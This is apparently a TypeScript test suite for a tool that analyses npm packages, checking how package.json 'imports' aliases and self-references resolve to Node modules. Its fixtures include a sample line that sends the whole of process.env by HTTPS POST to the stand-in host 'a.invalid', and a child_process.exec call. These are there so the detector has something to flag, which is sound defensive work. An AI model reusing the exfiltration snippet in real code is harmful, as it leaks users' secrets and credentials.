import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';
import { readManifest } from './manifest.ts';
import { meaningOf, ownNamesOf, textOfNames } from './own-names.ts';

const SENT = ['process.env → https.request().end as content'];
const send = (https: string): string => `${https}.request({ host: 'a.invalid', method: 'POST' }).end(JSON.stringify(process.env));`;
const OWN = `exports.send = all => { ${send(`require('https')`).replace('process.env', 'all')} }`;

describe('a name that the manifest gives a meaning', () => {
  for (const [how, code, imports] of [
    ['by a statement', `import net from '#net'; ${send('net')}`, { '#net': { browser: './page.js', node: 'https' } }],
    ['by an import that is waited for', `const { default: net } = await import('#net'); ${send('net')}`, { '#net': 'https' }],
    ['by a name in pieces', `const { default: net } = await import('#' + 'net'); ${send('net')}`, { '#net': 'https' }],
    ['by a pattern', `import net from '#n/https'; ${send('net')}`, { '#n/*': '*' }],
    ['where the first target is none', `import net from '#net'; ${send('net')}`, { '#net': ['not:valid', 'https'] }],
    [
      'where it is another when it is required',
      `import net from '#net'; ${send('net')}`,
      { '#net': { require: './x.js', import: 'https' } },
    ],
    ['by what another file hands on', `import { net } from './net.mjs'; ${send('net')}`, { '#net': 'https' }],
  ] as const)
    it(`means the module of Node that it stands for, ${how}`, () =>
      assert.deepEqual(
        flowLines({
          'package.json': { name: 'specimen', exports: './index.mjs', imports },
          'index.mjs': code,
          'net.mjs': `export { default as net } from '#net'`,
        }),
        SENT,
      ));

  for (const [what, target] of [
    ['a file of the package', './net.js'],
    ['another module where it is imported', { import: 'undici', default: './net.js' }],
    ['what is no target at all, and a file behind it', ['not:valid', './net.js']],
  ] as const)
    it(`means a file of the package, where it is ${what}`, () =>
      assert.deepEqual(
        flowLines({
          'package.json': { name: 'specimen', main: 'index.js', imports: { '#net': target } },
          'index.js': `require('#net').send(process.env)`,
          'net.js': OWN,
        }),
        SENT,
      ));

  it('is nobody’s where only pages have it', () =>
    assert.deepEqual(
      behaviourOf({
        'package.json': { name: 'specimen', main: 'index.js', imports: { '#net': { browser: 'https' } } },
        'index.js': send(`require('#net')`),
      }).effects.filter(one => one.kind === 'connects'),
      [],
    ));
});

describe('no other name has one', () => {
  const runs = (manifest: object): boolean =>
    behaviourOf({
      'package.json': { name: 'specimen', main: 'index.js', ...manifest },
      'index.js': `require('child_process').exec('ls')`,
    })
      .effects.map(lineOf)
      .includes('import spawns child_process.exec(ls)');
  it('for it begins with no #', () => assert.ok(runs({ imports: { child_process: 'lodash' } })));
  it('for Node has a module of that name, which comes first', () => assert.ok(runs({ name: 'child_process', exports: './index.js' })));
});

describe('the name of the package itself', () => {
  const files = (manifest: object): Record<string, string | object> => ({
    'package.json': { name: '@some/specimen', main: 'index.js', ...manifest },
    'index.js': `require('@some/specimen/net').send(process.env)`,
    'lib/net.js': OWN,
  });
  it('means its own files, where it says which those are', () =>
    assert.deepEqual(flowLines(files({ exports: { '.': './index.js', './net': './lib/net.js' } })), SENT));
  it('means a package that lies elsewhere, where it does not', () => assert.deepEqual(flowLines(files({})), []));
});

it('what names mean is told in one text, in which no two run together', () => {
  const names = (imports: object) =>
    ownNamesOf(readManifest(new Map([['package.json', Buffer.from(JSON.stringify({ imports }))]]), 'directory'));
  assert.equal(textOfNames(names({})), undefined);
  assert.notEqual(textOfNames(names({ '#a': 'x,#b=y' })), textOfNames(names({ '#a': 'x', '#b': 'y' })));
  assert.equal(meaningOf('#b', 'import', names({ '#a': 'x', '#b': 'y' })), 'y');
  assert.equal(meaningOf('b', 'import', names({ '#b': 'y' })), 'b');
});
